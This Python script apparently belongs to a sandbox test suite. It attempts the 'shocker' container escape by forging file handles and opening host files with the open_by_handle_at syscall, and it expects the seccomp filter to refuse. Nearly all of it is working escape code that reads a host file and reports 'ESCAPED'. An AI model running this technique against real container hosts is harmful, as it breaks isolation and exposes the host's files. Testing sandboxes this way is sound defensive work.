"""A file of the host is opened by its number in the file system, without a path
("shocker"): the descriptor of any file that came from the host's disk is enough.

Blocked by the seccomp list, which refuses open_by_handle_at() and answers
name_to_handle_at() as a file system without handles; by no capabilities.
"""
import ctypes
import os
import struct
import sys

WANTS = ("call.denied", "open_by_handle_at")
BARE = "root"
NEEDS = ("host_file",)

given = dict(word.split("=", 1) for word in sys.argv[1:])
libc = ctypes.CDLL(None, use_errno=True)


def handles(path):
    """Its own, if it can be asked for; else of the first directories."""
    buffer = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    mount = ctypes.c_int()
    if libc.syscall(303, -100, path.encode(), buffer, ctypes.byref(mount), 0) == 0:
        size, _ = struct.unpack_from("Ii", buffer)
        yield buffer.raw[:8 + size], ""
    for kind in (1, 2, 0x81, 0xfe):
        for number in (2, 64, 128, 256, 1):
            yield struct.pack("IiII", 8, kind, number, 0), path
            yield struct.pack("IiIII", 12, kind, number, 0, 0), path


why = set()
for start in ("/usr/bin/env", "/usr", "/etc/passwd", "/", "/tmp"):
    try:
        at = os.open(start, os.O_RDONLY)
    except OSError:
        continue  # where Landlock alone hides it
    for handle, rest in handles(given["host_file"]):
        for flags in (0, os.O_PATH):
            fd = libc.syscall(304, at, handle, flags)
            if fd < 0:
                why.add(os.strerror(ctypes.get_errno()))
                continue
            try:
                with open(f"/proc/self/fd/{fd}{rest}") as f:
                    print("ESCAPED: by a handle:", f.read())
                    sys.exit()
            except OSError as e:
                why.add(e.strerror)
            os.close(fd)
    os.close(at)
print("refused:", *sorted(why))
